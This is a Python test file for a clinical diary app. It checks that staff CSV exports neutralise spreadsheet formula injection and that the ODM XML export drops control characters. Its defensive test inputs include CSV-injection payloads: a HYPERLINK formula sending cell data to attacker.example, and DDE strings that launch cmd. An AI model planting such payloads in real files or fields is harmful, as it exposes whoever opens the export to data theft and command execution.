"""What a participant or a colleague types cannot attack whoever opens an export."""

import csv
import io
from datetime import date

from defusedxml import ElementTree
from sqlalchemy import select

from diary.models import Answer, DiaryEntry, Originator
from diary.services.diary import corrections, entries
from diary.services.reporting.exports import EXPORTS, FORMULA_STARTS, to_csv
from tests.support.staff import full_answers
from tests.web.staff.test_exports import ODM, download

FORMULAS = ['=HYPERLINK("http://attacker.example/?d="&A1,"Click me")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def _typed(session, world, clock, medicine: str, reason: str) -> None:
    day = date(2026, 3, 9)
    clock.set("2026-03-09T21:00:00+08:00")
    answers = {**full_answers(world.ours, day), "M2": "yes", "M2_DRUGS": "other",
               "M2_OTHER": medicine}
    entries.submit(session, world.ours, day, answers,
                   entries.Author(world.ours, Originator.PARTICIPANT), "t" * 20, clock())
    clock.set("2026-03-10T12:00:00+08:00")
    corrections.excuse_day(session, world.ours, date(2026, 3, 7), world.coordinator, reason,
                           clock())
    session.commit()


def _cells(client, name: str) -> list[str]:
    response = download(client, f"/staff/exports/{name}")
    assert response.status_code == 200, name
    return [cell for row in csv.reader(io.StringIO(response.get_data().decode("utf-8-sig")))
            for cell in row]


def test_no_csv_cell_can_start_a_formula(client, session, login_as, world, clock):
    _typed(session, world, clock, FORMULAS[0], FORMULAS[1])
    login_as(world.coordinator)
    seen = []
    for name in (n for n in EXPORTS if n.endswith(".csv")):
        cells = _cells(client, name)
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], name
        seen += cells
    assert "'" + FORMULAS[0] in seen  # the participant's medicine, in items and days
    assert "'" + FORMULAS[1] in seen  # the coordinator's reason, in days


def test_every_formula_start_is_neutralised(client, session, login_as, world, clock):
    for n, formula in enumerate(FORMULAS[2:]):
        clock.set(f"2026-03-10T12:0{n}:00+08:00")
        corrections.excuse_day(session, world.ours, date(2026, 3, 2 + n), world.coordinator,
                               formula, clock())
    session.commit()
    login_as(world.coordinator)
    reasons = set(_cells(client, "days.csv"))
    assert {"'" + f for f in FORMULAS[2:]} <= reasons
    # Reasons are stored stripped; a tab or carriage return first is caught all the same.
    text = "".join(to_csv(("a", "b", "c"), [("\tTAB", "\r=CR", "plain -1")]))
    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff")))) == [
        ["a", "b", "c"], ["'\tTAB", "'\r=CR", "plain -1"]]


def test_a_participant_cannot_break_the_odm_file(client, session, login_as, world, clock):
    _typed(session, world, clock, "aspirin", "In hospital")
    # A row stored before input was checked (or written by another tool) holds control codes
    # (PostgreSQL text cannot hold NUL; the others it keeps).
    answer = session.scalar(select(Answer).join(DiaryEntry).where(
        DiaryEntry.participant_id == world.ours.id, Answer.item_id == "M2_OTHER"))
    answer.value = "asp\x01ir\x1bin\x0b\ufffe"
    session.commit()
    login_as(world.coordinator)
    root = ElementTree.fromstring(download(client, "/staff/exports/odm.xml").get_data())
    values = {i.get("Value") for i in root.iter(f"{ODM}ItemData")
              if i.get("ItemOID") == "I.M2_OTHER"}
    assert values == {"aspirin"}
